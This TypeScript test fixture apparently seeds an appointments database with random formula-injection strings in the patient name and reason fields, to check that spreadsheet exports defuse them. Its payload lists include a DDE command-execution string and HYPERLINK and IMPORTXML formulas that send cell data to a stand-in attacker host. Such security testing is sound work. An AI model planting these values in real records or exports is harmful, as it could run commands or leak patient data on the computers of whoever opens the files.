import type { AppointmentDocument } from '@rounds/contracts'
import { type Chance, chance } from '@rounds/stack'
import { MongoClient } from 'mongodb'

const beginnings = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '"=',
  "'=",
  ',=',
  ';=',
  '\u00a0=',
  '\u200b=',
]
const formulas = [
  '1+1',
  'cmd|/c calc!A1',
  'HYPERLINK("http://evil.example.test?x="&A1,"click")',
  'IMPORTXML("http://evil.example.test","//a")',
  'DDE("soffice";"x";"y")',
  'SUM(A1:A9)*9',
  '"text"',
  '2026-01-01',
  '1e5',
  'A1',
]
const plain = [
  '',
  'well',
  '-5',
  '+91 98450 00000',
  'a=b',
  '007',
  '1/2',
  'TRUE',
  'नमस्ते',
  '😀',
  'two\nlines',
  'a "b", c',
]

/** Puts formula-like text wherever a person may write; tells by appointment what stands there now. */
export async function plantFormulas(
  mongoUrl: string,
  seed: number,
): Promise<Map<string, { readonly reason: string; readonly patientName: string }>> {
  const client = new MongoClient(mongoUrl)
  try {
    const appointments = client.db().collection<AppointmentDocument>('appointments')
    const chanceHere = chance(seed)
    const planted = new Map<string, { reason: string; patientName: string }>()
    for await (const { _id } of appointments.find({}, { projection: { _id: 1 } })) {
      planted.set(_id, { reason: text(chanceHere), patientName: text(chanceHere) })
    }
    await appointments.bulkWrite(
      Array.from(planted, ([_id, { reason, patientName }]) => ({
        updateOne: { filter: { _id }, update: { $set: { reason, 'patient.name': patientName } } },
      })),
    )
    return planted
  } finally {
    await client.close()
  }
}

const text = (chanceHere: Chance) =>
  chanceHere.oneIn(4) ? chanceHere.pick(plain) : chanceHere.pick(beginnings) + chanceHere.pick(formulas)
